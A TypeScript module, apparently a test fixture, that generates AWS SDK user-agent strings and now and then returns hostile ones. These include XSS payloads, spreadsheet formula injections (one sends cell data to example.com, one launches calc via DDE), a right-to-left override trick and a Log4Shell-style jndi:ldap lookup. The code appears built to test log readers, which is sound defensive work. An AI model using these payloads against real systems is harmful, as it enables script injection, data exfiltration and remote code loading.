import type { Random } from './random.ts';

const SDKS = [
  'aws-sdk-java/2.31.4 md/io#sync md/http#Apache Linux/6.1',
  'Boto3/1.43.11 md/Botocore#1.43.11 ua/2.1 os/linux#6.1 lang/python#3.13',
  'aws-cli/2.31.2 md/awscrt#0.27.6 ua/2.1 os/linux#6.1 exec-env/EC2',
  'aws-sdk-go-v2/1.39.0 os/linux lang/go#1.25.1',
] as const;

const HOSTILE = [
  '<script>alert("userAgent")</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("https://example.com/?x="&A1,"open")',
  "=cmd|' /C calc'!A0",
  'curl/8.9 \u202Egnp.exe\u202C \u0007 \x24{jndi:ldap://example.com/a}',
] as const;

/** Anybody may send any user agent; every fortieth or so is an attack on whoever reads the log. */
export function pickUserAgent(random: Random): string {
  return random.next() < 0.025 ? random.pick(HOSTILE) : random.pick(SDKS);
}
